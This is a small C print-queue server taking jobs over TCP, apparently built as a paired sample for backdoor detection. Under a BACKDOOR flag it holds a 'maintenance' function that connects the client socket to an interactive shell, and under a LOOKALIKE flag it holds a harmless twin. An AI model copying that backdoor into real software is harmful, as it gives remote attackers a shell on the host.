/* A print queue: jobs over TCP, one file each. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int number;

#ifdef BACKDOOR
__attribute__((used, noinline)) static void maintenance(int fd)
{
    char *arguments[] = { "sh", "-i", NULL };
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execv("/bin/sh", arguments);
}
#endif
#ifdef LOOKALIKE
__attribute__((used, noinline)) static void maintenance(int fd)
{
    dprintf(fd, "queue has %d jobs\n", number);
}
#endif

static void job(int fd)
{
    char block[512], path[64];
    ssize_t got;
    FILE *file;
    snprintf(path, sizeof path, "/var/spool/printq/%06d", number++);
    file = fopen(path, "w");
    while (file != NULL && (got = recv(fd, block, sizeof block, 0)) > 0)
        fwrite(block, 1, (size_t)got, file);
    if (file != NULL)
        fclose(file);
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9100) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        job(fd);
        close(fd);
    }
}
